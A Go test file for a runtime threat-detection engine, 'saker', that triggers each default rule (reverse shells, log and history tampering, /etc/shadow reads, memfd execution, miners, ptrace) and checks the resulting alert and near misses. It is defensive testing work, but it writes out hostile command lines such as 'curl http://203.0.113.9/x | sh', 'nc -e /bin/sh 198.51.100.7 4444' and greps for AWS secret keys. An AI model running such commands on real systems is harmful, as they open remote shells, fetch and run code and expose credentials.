package rules

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/sakersec/saker/engine/alert"
	"github.com/sakersec/saker/internal/childtest"
)

// ruleCase is the test of one default rule: it performs the behaviour the
// rule names for real, with saker's live pipeline attached, and checks the
// alert (name, priority, tags, key output fields); then it performs a near
// miss and checks that the rule stays quiet. Every case runs live: each
// behaviour below can be performed safely on a test machine (temporary
// files removed at once, private mount and network namespaces, a
// throwaway cgroup for "in a container", failing calls where the real
// thing would change the kernel).
type ruleCase struct {
	rule string
	prio alert.Priority
	test func(t *testing.T, c *ruleCase)
}

var cases = []ruleCase{
	{"Dynamic linker preload modified", alert.PriorityCritical, testLdPreload},
	{"Write below etc", alert.PriorityError, testWriteBelowEtc},
	{"Write below binary or boot directory", alert.PriorityError, testWriteBelowBinaryDir},
	{"SSH authorized keys modified", alert.PriorityWarning, testAuthorizedKeys},
	{"Cgroup release_agent modified", alert.PriorityCritical, testReleaseAgent},
	{"Log file cleared", alert.PriorityWarning, testLogCleared},
	{"Shell history tampered", alert.PriorityWarning, testShellHistory},
	{"Link to sensitive file created", alert.PriorityWarning, testSensitiveLink},
	{"Setuid or setgid bit set", alert.PriorityNotice, testSetuidBit},
	{"Executable deleted by its own process", alert.PriorityWarning, testSelfDelete},
	{"Read sensitive file by untrusted program", alert.PriorityWarning, testReadSensitive},
	{"Read SSH private key by non-SSH program", alert.PriorityWarning, testReadSSHKey},
	{"Search for private keys or credentials", alert.PriorityWarning, testCredentialSearch},
	{"Process memory opened through proc", alert.PriorityWarning, testProcMem},
	{"Packet socket created", alert.PriorityNotice, testPacketSocket},
	{"Shell spawned by server process", alert.PriorityError, testServerShell},
	{"Terminal shell in container", alert.PriorityNotice, testTerminalShellInContainer},
	{"Standard stream redirected to network socket", alert.PriorityCritical, testReverseShell},
	{"Netcat or socat running a command", alert.PriorityError, testNetcat},
	{"Fileless execution from memfd", alert.PriorityCritical, testMemfdExec},
	{"Execution from shared memory", alert.PriorityWarning, testShmExec},
	{"Crypto miner started", alert.PriorityCritical, testMiner},
	{"Outbound connection to crypto mining pool port", alert.PriorityWarning, testMinerPort},
	{"Login session switched to root by unexpected program", alert.PriorityWarning, testSetuidRoot},
	{"Ptrace attach to process", alert.PriorityWarning, testPtraceAttach},
	{"Process memory written with ptrace", alert.PriorityCritical, testPtracePoke},
	{"Kernel module load", alert.PriorityError, testModuleLoad},
	{"BPF program loaded by unexpected program", alert.PriorityNotice, testBPFLoad},
	{"Namespace changed with setns", alert.PriorityNotice, testSetns},
	{"Namespace created in container", alert.PriorityWarning, testUnshareInContainer},
	{"Sensitive file system mounted in container", alert.PriorityError, testMountInContainer},
	{"Userfaultfd created by unexpected program", alert.PriorityWarning, testUserfaultfd},
	{"Io_uring set up by unexpected program", alert.PriorityNotice, testIOUring},
	{"Signal sent to saker", alert.PriorityError, testSignalSaker},
}

func TestRules(t *testing.T) {
	for i := range cases {
		c := &cases[i]
		t.Run(strings.ReplaceAll(c.rule, " ", "_"), func(t *testing.T) {
			t.Parallel()
			c.test(t, c)
		})
	}
}

// selfName is proc.name of a helper run under this binary's own name.
var selfName = func() string {
	p, _ := os.Executable()
	n := filepath.Base(p)
	if len(n) > 15 {
		n = n[:15] // the kernel's comm is at most 15 characters
	}
	return n
}()

var mitreTechnique = regexp.MustCompile(`^T[0-9]{4}(\.[0-9]{3})?$`)

// check finds the alert of c's rule in r whose fields match where (nil:
// the first one) and checks what every alert must carry: the priority, a
// MITRE tactic and technique tag, and the process and container.
func (c *ruleCase) check(t *testing.T, r *result, pid int, container string, where map[string]string) *alert.Alert {
	t.Helper()
	var a *alert.Alert
	for _, x := range r.alerts {
		if x.Rule != c.rule {
			continue
		}
		ok := true
		for k, v := range where {
			if got, _ := fieldText(x, k); got != v {
				ok = false
			}
		}
		if ok {
			a = x
			break
		}
	}
	if a == nil {
		var msgs []string
		for _, x := range r.alerts {
			msgs = append(msgs, x.Rule+": "+x.Message)
		}
		t.Fatalf("rule %q did not fire (where %v) for pid %d; alerts:\n  %s\nhelper out %v; stderr:\n%s",
			c.rule, where, r.pid, strings.Join(msgs, "\n  "), r.out, r.stderr)
	}
	if a.Priority != c.prio {
		t.Errorf("priority %v, want %v", a.Priority, c.prio)
	}
	var tactic, technique bool
	for _, tag := range a.Tags {
		tactic = tactic || strings.HasPrefix(tag, "mitre_")
		technique = technique || mitreTechnique.MatchString(tag)
	}
	if !tactic || !technique {
		t.Errorf("tags %v: want a mitre_ tactic and a T#### technique", a.Tags)
	}
	want := map[string]string{"proc.pid": strconv.Itoa(pid), "container.id": container, "user.name": "root"}
	expect(t, a, want)
	if !strings.HasPrefix(a.Output, a.Time.Local().Format("15:04:05")) || !strings.Contains(a.Output, ": "+c.prio.String()+" ") {
		t.Errorf("output %q lacks Falco's time and priority prefix", a.Output)
	}
	return a
}

// nearMiss runs s and checks that c's rule stays quiet.
func (c *ruleCase) nearMiss(t *testing.T, s spec) {
	t.Helper()
	run(t, s).quiet(t, c.rule)
}

// sysFile returns a unique path in dir (a system directory) for a file a
// helper creates, removed at the end of the test whatever happens.
func sysFile(t *testing.T, dir, suffix string) string {
	t.Helper()
	if st, err := os.Stat(dir); err != nil || !st.IsDir() {
		childtest.SkipOrFail(t, "%s is not a directory on this host", dir)
	}
	p := filepath.Join(dir, randName("saker-rules-")+suffix)
	removeLater(t, p)
	return p
}

// symlinkTo creates a symlink named name in a temporary directory pointing
// at the program target, so that a real program runs under that name.
func symlinkTo(t *testing.T, target, name string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
	return p
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

// mountedNoexec reports whether the file system holding path forbids
// executing programs.
func mountedNoexec(path string) (bool, error) {
	var st unix.Statfs_t
	if err := unix.Statfs(path, &st); err != nil {
		return false, err
	}
	return st.Flags&unix.ST_NOEXEC != 0, nil
}

func exists(path string) bool {
	_, err := os.Lstat(path)
	return err == nil
}

// ---------------------------------------------------------------------------

func testLdPreload(t *testing.T, c *ruleCase) {
	dir := t.TempDir()
	r := run(t, spec{helper: "private-etc", args: []string{"w", "ld.so.preload", dir}})
	a := c.check(t, r, r.pid, "host", nil)
	expect(t, a, map[string]string{"fd.name": "/etc/ld.so.preload", "evt.type": "openat",
		"evt.arg.flags": "~O_TRUNC", "proc.name": selfName})
	// ld.so reads the file at every program start: reading is quiet.
	c.nearMiss(t, spec{helper: "private-etc", args: []string{"r", "ld.so.preload", dir}})
}

func testWriteBelowEtc(t *testing.T, c *ruleCase) {
	f1, f2 := sysFile(t, "/etc", ".conf"), sysFile(t, "/etc", ".conf")
	r := run(t, spec{helper: "ops", args: []string{"open", "w", f1, "unlink", f1, "creat", f2, "unlink", f2}})
	expect(t, c.check(t, r, r.pid, "host", map[string]string{"evt.type": "openat"}),
		map[string]string{"fd.name": f1, "evt.arg.flags": "~O_WRONLY", "proc.exepath": "~rules"})
	expect(t, c.check(t, r, r.pid, "host", map[string]string{"evt.type": "creat"}), map[string]string{"fd.name": f2})
	if exists(f1) || exists(f2) {
		t.Errorf("helper left %s or %s behind", f1, f2)
	}
	// In a container (its /etc is a tmpfs here, bind-mounted in a private
	// mount namespace): the users file is reported...
	id := fixtures.containerID(t)
	r = run(t, spec{helper: "private-etc", container: true, args: []string{"w", "passwd", t.TempDir()}})
	expect(t, c.check(t, r, r.pid, id, nil), map[string]string{"fd.name": "/etc/passwd"})

	tmp := filepath.Join(t.TempDir(), "etc", "passwd")
	os.MkdirAll(filepath.Dir(tmp), 0o755)
	c.nearMiss(t, spec{helper: "ops", args: []string{"open", "w", tmp}})
	// ...an entrypoint rendering its own configuration is not.
	c.nearMiss(t, spec{helper: "private-etc", container: true, args: []string{"w", "nginx.conf", t.TempDir()}})
}

func testWriteBelowBinaryDir(t *testing.T, c *ruleCase) {
	bin := sysFile(t, "/usr/local/bin", "")
	modDir := "/lib/modules"
	if !exists(modDir) {
		modDir = "/boot"
	}
	mod := sysFile(t, modDir, ".ko")
	staged, moved := sysFile(t, "/usr/local", ""), sysFile(t, "/usr/local/sbin", "")
	r := run(t, spec{helper: "ops", args: []string{
		"open", "w", bin, "unlink", bin,
		"open", "w", mod, "unlink", mod,
		"write", staged, "x", "rename", staged, moved, "unlink", moved}})
	c.check(t, r, r.pid, "host", map[string]string{"fd.name": bin, "evt.type": "openat"})
	c.check(t, r, r.pid, "host", map[string]string{"fd.name": mod})
	expect(t, c.check(t, r, r.pid, "host", map[string]string{"evt.type": "rename"}), map[string]string{"evt.arg.newpath": moved})
	// A sibling whose name merely starts with a binary directory's name.
	lookalike := "/usr/local/bin-" + randName("saker-rules-")
	removeLater(t, lookalike)
	c.nearMiss(t, spec{helper: "ops", args: []string{"open", "w", lookalike, "unlink", lookalike}})
}

func testAuthorizedKeys(t *testing.T, c *ruleCase) {
	keys := filepath.Join(t.TempDir(), ".ssh", "authorized_keys")
	writeFile(t, keys, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA existing\n")
	r := run(t, spec{helper: "ops", args: []string{"open", "a", keys}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": keys})
	// sshd reads the file at every login.
	c.nearMiss(t, spec{helper: "ops", args: []string{"open", "r", keys}})
}

func testReleaseAgent(t *testing.T, c *ruleCase) {
	dir := t.TempDir()
	r := run(t, spec{helper: "release-agent", args: []string{"w", dir}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": filepath.Join(dir, "release_agent")})
	c.nearMiss(t, spec{helper: "release-agent", args: []string{"r", dir}})
}

func testLogCleared(t *testing.T, c *ruleCase) {
	sh := tool(t, "sh")
	rm := tool(t, "rm")
	log := sysFile(t, "/var/log", ".log")
	writeFile(t, log, "Jan  1 00:00:00 host sshd[1]: Accepted publickey for root\n")
	r := run(t, spec{helper: "exec", args: []string{sh, "sh", "-c", ": > " + log}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": log, "proc.name": "sh",
		"evt.arg.flags": "~O_TRUNC", "proc.cmdline": "sh -c : > " + log})
	r = run(t, spec{helper: "exec", args: []string{rm, "rm", "-f", log}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.type": "unlinkat", "evt.arg.name": log, "proc.name": "rm"})

	// Appending is what loggers do; creating a new file is not clearing one.
	appended := sysFile(t, "/var/log", ".log")
	writeFile(t, appended, "line\n")
	c.nearMiss(t, spec{helper: "exec", args: []string{sh, "sh", "-c", "echo more >> " + appended}})
	fresh := sysFile(t, "/var/log", ".log")
	c.nearMiss(t, spec{helper: "exec", args: []string{sh, "sh", "-c", ": > " + fresh}})
	// An application's own rotation deletes its old copies.
	base := sysFile(t, "/var/log", ".log")
	var rotated []string
	for _, suffix := range []string{".1", ".2.gz", "-20240101", ".old"} {
		writeFile(t, base+suffix, "old\n")
		removeLater(t, base+suffix)
		rotated = append(rotated, base+suffix)
	}
	c.nearMiss(t, spec{helper: "exec", args: append([]string{rm, "rm"}, rotated...)})
}

func testShellHistory(t *testing.T, c *ruleCase) {
	sh, rm, ln, mv := tool(t, "sh"), tool(t, "rm"), tool(t, "ln"), tool(t, "mv")
	home := t.TempDir()
	hist := filepath.Join(home, ".bash_history")
	writeFile(t, hist, "curl http://203.0.113.9/x | sh\n")
	r := run(t, spec{helper: "exec", args: []string{sh, "sh", "-c", ": > " + hist}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": hist, "evt.arg.flags": "~O_TRUNC"})
	r = run(t, spec{helper: "exec", args: []string{rm, "rm", hist}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.name": hist, "proc.name": "rm"})
	r = run(t, spec{helper: "exec", args: []string{ln, "ln", "-s", "/dev/null", hist}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.linkpath": hist, "proc.name": "ln"})
	zsh := filepath.Join(home, ".zsh_history")
	writeFile(t, zsh, ": 1700000000:0;id\n")
	r = run(t, spec{helper: "exec", args: []string{mv, "mv", zsh, filepath.Join(home, "old")}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.oldpath": zsh, "proc.name": "mv"})

	// A shell appending to its history is normal.
	other := filepath.Join(t.TempDir(), ".bash_history")
	writeFile(t, other, "ls\n")
	c.nearMiss(t, spec{helper: "exec", args: []string{sh, "sh", "-c", "echo id >> " + other}})
}

func testSensitiveLink(t *testing.T, c *ruleCase) {
	ln := tool(t, "ln")
	dir := t.TempDir()
	r := run(t, spec{helper: "exec", args: []string{ln, "ln", "-s", "/etc/shadow", filepath.Join(dir, "s")}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.target": "/etc/shadow", "proc.name": "ln"})
	// A hard link must be on the same file system as /etc/shadow.
	etcDir, err := os.MkdirTemp("/etc", "saker-rules-")
	if err != nil {
		t.Fatal(err)
	}
	removeLater(t, etcDir)
	r = run(t, spec{helper: "exec", args: []string{ln, "ln", "/etc/shadow", filepath.Join(etcDir, "h")}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.oldpath": "/etc/shadow", "evt.type": "linkat"})
	os.RemoveAll(etcDir)

	c.nearMiss(t, spec{helper: "exec", args: []string{ln, "ln", "-s", "/etc/hostname", filepath.Join(dir, "n")}})
}

func testSetuidBit(t *testing.T, c *ruleCase) {
	chmod := tool(t, "chmod")
	f := filepath.Join(t.TempDir(), "rootshell")
	writeFile(t, f, "#!/bin/sh\n")
	r := run(t, spec{helper: "exec", args: []string{chmod, "chmod", "4755", f}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.mode": "~S_ISUID", "proc.name": "chmod",
		"proc.cmdline": "chmod 4755 " + f})
	r = run(t, spec{helper: "ops", args: []string{"chmod", f, "2755"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.mode": "~S_ISGID", "evt.arg.filename": f})
	c.nearMiss(t, spec{helper: "exec", args: []string{chmod, "chmod", "0755", f}})
}

func testSelfDelete(t *testing.T, c *ruleCase) {
	self, _ := os.Executable()
	exe := filepath.Join(t.TempDir(), "dropper")
	if err := os.Link(self, exe); err != nil {
		// Another file system: copy.
		in, err := os.Open(self)
		if err != nil {
			t.Fatal(err)
		}
		defer in.Close()
		out, err := os.OpenFile(exe, os.O_CREATE|os.O_WRONLY, 0o755)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(out, in); err != nil {
			t.Fatal(err)
		}
		out.Close()
	}
	r := run(t, spec{helper: "ops", exe: exe, args: []string{"unlink", exe}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.path": exe, "proc.exepath": exe, "proc.name": "dropper"})
	if exists(exe) {
		t.Errorf("%s still exists", exe)
	}
	other := filepath.Join(t.TempDir(), "scratch")
	c.nearMiss(t, spec{helper: "ops", args: []string{"write", other, "x", "unlink", other}})
}

func testReadSensitive(t *testing.T, c *ruleCase) {
	cat := tool(t, "cat")
	r := run(t, spec{helper: "exec", args: []string{cat, "cat", "/etc/shadow"}, quietStdout: true})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": "/etc/shadow", "proc.name": "cat",
		"proc.cmdline": "cat /etc/shadow", "proc.exepath": cat})
	benign := "/etc/hostname"
	if !exists(benign) {
		benign = "/etc/passwd"
	}
	c.nearMiss(t, spec{helper: "exec", args: []string{cat, "cat", benign}, quietStdout: true})
	// The password checker PAM runs is expected to read it.
	c.nearMiss(t, spec{helper: "ops", comm: "unix_chkpwd", args: []string{"open", "r", "/etc/shadow"}})
}

func testReadSSHKey(t *testing.T, c *ruleCase) {
	cat := tool(t, "cat")
	key := filepath.Join(t.TempDir(), ".ssh", "id_ed25519")
	writeFile(t, key, "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n-----END OPENSSH PRIVATE KEY-----\n")
	writeFile(t, key+".pub", "ssh-ed25519 AAAA test\n")
	r := run(t, spec{helper: "exec", args: []string{cat, "cat", key}, quietStdout: true})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": key, "proc.name": "cat"})
	c.nearMiss(t, spec{helper: "exec", args: []string{cat, "cat", key + ".pub"}, quietStdout: true})
}

func testCredentialSearch(t *testing.T, c *ruleCase) {
	find, grep := tool(t, "find"), tool(t, "grep")
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "notes.txt"), "nothing here\n")
	r := run(t, spec{helper: "exec", args: []string{find, "find", dir, "-name", "id_rsa*"}, quietStdout: true})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.name": "find",
		"proc.cmdline": "find " + dir + " -name id_rsa*"})
	r = run(t, spec{helper: "exec", args: []string{grep, "grep", "-rl", "aws_secret_access_key", dir}, quietStdout: true, wantExit: 1})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.name": "grep"})
	c.nearMiss(t, spec{helper: "exec", args: []string{find, "find", dir, "-name", "*.txt"}, quietStdout: true})
}

func testProcMem(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "procmem", args: []string{"mem"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": fmt.Sprint(r.out["path"]), "proc.name": selfName})
	c.nearMiss(t, spec{helper: "procmem", args: []string{"status"}})
}

func testPacketSocket(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "packet", args: []string{"packet"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.domain": "AF_PACKET", "evt.type": "socket"})
	c.nearMiss(t, spec{helper: "packet", args: []string{"inet"}})
	c.nearMiss(t, spec{helper: "packet", comm: "dhclient", args: []string{"packet"}})
}

func testServerShell(t *testing.T, c *ruleCase) {
	sh := tool(t, "sh")
	r := run(t, spec{helper: "spawn", comm: "nginx", args: []string{sh, "sh", "-c", "true"}})
	child := int(r.num(t, "child_pid"))
	expect(t, c.check(t, r, child, "host", nil), map[string]string{"proc.name": "sh", "proc.pname": "nginx",
		"proc.cmdline": "sh -c true", "proc.pcmdline": "~nginx"})
	c.nearMiss(t, spec{helper: "spawn", comm: "backup-agent", args: []string{sh, "sh", "-c", "true"}})
}

func testTerminalShellInContainer(t *testing.T, c *ruleCase) {
	sh := tool(t, "sh")
	id := fixtures.containerID(t)
	r := run(t, spec{helper: "pty-exec", container: true, args: []string{sh, "sh", "-c", "true"}})
	a := c.check(t, r, r.pid, id, nil)
	expect(t, a, map[string]string{"proc.name": "sh", "container.type": "docker"})
	if tty, _ := fieldText(a, "proc.tty"); tty == "0" || tty == "<NA>" {
		t.Errorf("proc.tty = %s, want the pseudo-terminal", tty)
	}
	// No terminal: a script run by the container's entrypoint.
	c.nearMiss(t, spec{helper: "exec", container: true, args: []string{sh, "sh", "-c", "true"}})
	// A terminal, but on the host.
	c.nearMiss(t, spec{helper: "pty-exec", args: []string{sh, "sh", "-c", "true"}})
}

func testReverseShell(t *testing.T, c *ruleCase) {
	tool(t, "sh")
	r := run(t, spec{helper: "revshell", args: []string{"stdio"}})
	a := c.check(t, r, r.pid, "host", map[string]string{"evt.rawres": "0"})
	expect(t, a, map[string]string{"evt.type": "dup2", "fd.name": "~127.0.0.1:", "proc.name": selfName})
	c.check(t, r, r.pid, "host", map[string]string{"evt.rawres": "1"})
	c.nearMiss(t, spec{helper: "revshell", args: []string{"high"}})
	c.nearMiss(t, spec{helper: "revshell", args: []string{"null"}})
}

func testNetcat(t *testing.T, c *ruleCase) {
	truePath := tool(t, "true")
	nc := symlinkTo(t, truePath, "nc")
	r := run(t, spec{helper: "exec", args: []string{nc, "nc", "-e", "/bin/sh", "198.51.100.7", "4444"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 198.51.100.7 4444"})
	socat := symlinkTo(t, truePath, "socat")
	r = run(t, spec{helper: "exec", args: []string{socat, "socat", "TCP:198.51.100.7:4444", "EXEC:/bin/sh,pty,stderr"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.name": "socat"})
	// A port check.
	c.nearMiss(t, spec{helper: "exec", args: []string{nc, "nc", "-zv", "198.51.100.7", "80"}})
}

func testMemfdExec(t *testing.T, c *ruleCase) {
	truePath := tool(t, "true")
	r := run(t, spec{helper: "memfd-exec", args: []string{truePath, "payload", "--quiet"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.exepath": "~memfd:payload", "proc.cmdline": "~--quiet"})
	c.nearMiss(t, spec{helper: "exec", args: []string{truePath, "true"}})
}

func testShmExec(t *testing.T, c *ruleCase) {
	truePath := tool(t, "true")
	argv0 := "[kworker/0:1]"
	var r *result
	var bin string
	if noexec, err := mountedNoexec("/dev/shm"); err == nil && !noexec {
		bin = sysFile(t, "/dev/shm", "")
		data, err := os.ReadFile(truePath)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(bin, data, 0o755); err != nil {
			t.Fatal(err)
		}
		r = run(t, spec{helper: "exec", args: []string{bin, argv0}})
	} else {
		// The host's /dev/shm is missing or noexec: a private one.
		name := randName("saker-rules-")
		bin = "/dev/shm/" + name
		r = run(t, spec{helper: "private-shm", args: []string{truePath, name, argv0}})
	}
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.exepath": bin, "proc.exe": argv0})
	c.nearMiss(t, spec{helper: "exec", args: []string{truePath, "true"}})
}

func testMiner(t *testing.T, c *ruleCase) {
	truePath := tool(t, "true")
	xmrig := symlinkTo(t, truePath, "xmrig")
	r := run(t, spec{helper: "exec", args: []string{xmrig, "xmrig", "--donate-level", "1"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.name": "xmrig"})
	r = run(t, spec{helper: "exec", args: []string{truePath, "true", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"proc.cmdline": "~stratum+tcp://pool.example.net:3333"})
	c.nearMiss(t, spec{helper: "exec", args: []string{truePath, "true", "--url", "https://pool.example.net/status"}})
}

func testMinerPort(t *testing.T, c *ruleCase) {
	// 198.51.100.0/24 is a documentation range: public, and here only ever
	// configured inside the helper's own network namespace.
	r := run(t, spec{helper: "connect", args: []string{"198.51.100.7", "14444"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.sip": "198.51.100.7", "fd.sport": "14444",
		"fd.l4proto": "tcp", "fd.name": "~->198.51.100.7:14444"})
	c.nearMiss(t, spec{helper: "connect", args: []string{"198.51.100.7", "443"}})
	c.nearMiss(t, spec{helper: "connect", args: []string{"127.0.0.1", "14444"}})
}

func testSetuidRoot(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "setuid-root", loginuid: "1000", args: []string{"setuid"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.type": "setuid", "user.loginuid": "1000"})
	c.nearMiss(t, spec{helper: "setuid-root", comm: "sudo", loginuid: "1000", args: []string{"setuid"}})
	// Root's own login session.
	c.nearMiss(t, spec{helper: "setuid-root", loginuid: "0", args: []string{"setuid"}})
	// Only the effective uid, as sshd does around work it does as the user.
	c.nearMiss(t, spec{helper: "setuid-root", loginuid: "1000", args: []string{"seteuid"}})
}

func testPtraceAttach(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "ptrace", args: []string{"attach"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.request": "PTRACE_ATTACH", "evt.arg.pid": selfName})
	r = run(t, spec{helper: "ptrace", args: []string{"seize"}})
	c.check(t, r, r.pid, "host", map[string]string{"evt.arg.request": "PTRACE_SEIZE"})
	// What a debugger's child does before exec.
	c.nearMiss(t, spec{helper: "ptrace", args: []string{"traceme"}})
}

func testPtracePoke(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "ptrace", args: []string{"poke"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.request": "PTRACE_POKEDATA"})
	c.nearMiss(t, spec{helper: "ptrace", args: []string{"peek"}})
}

func testModuleLoad(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "module"})
	c.check(t, r, r.pid, "host", map[string]string{"evt.type": "init_module"})
	c.check(t, r, r.pid, "host", map[string]string{"evt.type": "finit_module"})
	c.nearMiss(t, spec{helper: "module", comm: "systemd-modules-load"})
}

func testBPFLoad(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "bpf", args: []string{"prog"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.cmd": "BPF_PROG_LOAD",
		"evt.rawres": fmt.Sprint(r.num(t, "prog_fd"))})
	c.nearMiss(t, spec{helper: "bpf", args: []string{"map"}})
	c.nearMiss(t, spec{helper: "bpf", comm: "runc", args: []string{"prog"}})
}

func testSetns(t *testing.T, c *ruleCase) {
	// The host network namespace, through a host process: this test binary
	// (nsenter -t 1 does the same with PID 1, which a sandbox may hide).
	ns := fmt.Sprintf("/proc/%d/ns/net", os.Getpid())
	r := run(t, spec{helper: "setns", args: []string{"host", ns}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"fd.name": ns, "evt.arg.nstype": "~CLONE_NEWNET"})
	c.nearMiss(t, spec{helper: "setns", args: []string{"mismatch", ns}})
	c.nearMiss(t, spec{helper: "setns", comm: "runc", args: []string{"host", ns}})
}

func testUnshareInContainer(t *testing.T, c *ruleCase) {
	id := fixtures.containerID(t)
	r := run(t, spec{helper: "unshare", container: true})
	expect(t, c.check(t, r, r.pid, id, nil), map[string]string{"evt.arg.flags": "~CLONE_NEWUTS", "container.type": "docker"})
	c.nearMiss(t, spec{helper: "unshare"})
}

func testMountInContainer(t *testing.T, c *ruleCase) {
	id := fixtures.containerID(t)
	dir := t.TempDir()
	r := run(t, spec{helper: "mount", container: true, args: []string{"proc", dir}})
	expect(t, c.check(t, r, r.pid, id, nil), map[string]string{"evt.arg.type": "proc", "evt.arg.dir": dir})
	c.nearMiss(t, spec{helper: "mount", container: true, args: []string{"tmpfs", dir}})
	c.nearMiss(t, spec{helper: "mount", args: []string{"proc", dir}})
}

func testUserfaultfd(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "userfaultfd"})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.type": "userfaultfd", "evt.res": "SUCCESS"})
	c.nearMiss(t, spec{helper: "userfaultfd", comm: "criu"})
}

func testIOUring(t *testing.T, c *ruleCase) {
	r := run(t, spec{helper: "io_uring"})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.type": "io_uring_setup", "evt.arg.entries": "4"})
	c.nearMiss(t, spec{helper: "io_uring", comm: "fio"})
}

func testSignalSaker(t *testing.T, c *ruleCase) {
	// A stand-in for the saker daemon: a process named saker (the real one
	// is this test binary, whose own events the probe never traces).
	target := func(comm string) *handle {
		h := start(t, spec{helper: "pause", comm: comm, wantExit: -1})
		h.goAhead()
		live.waitSeen(t, h.w, "kill", 10*time.Second)
		return h
	}
	victim := target("saker")
	pid := strconv.Itoa(victim.c.Pid())
	// Signal 0 only checks that saker is alive (a liveness probe).
	c.nearMiss(t, spec{helper: "kill", args: []string{pid, "0"}})
	r := run(t, spec{helper: "kill", args: []string{pid, "15"}})
	expect(t, c.check(t, r, r.pid, "host", nil), map[string]string{"evt.arg.sig": "SIGTERM", "evt.arg.pid": "saker"})
	// The Go runtime of the stand-in re-raises the SIGTERM at itself to die
	// of it (tgkill): a process signalling itself is not an attack.
	victim.finish().quiet(t, c.rule)
	other := target("sleeper")
	c.nearMiss(t, spec{helper: "kill", args: []string{strconv.Itoa(other.c.Pid()), "15"}})
	other.finish()
}
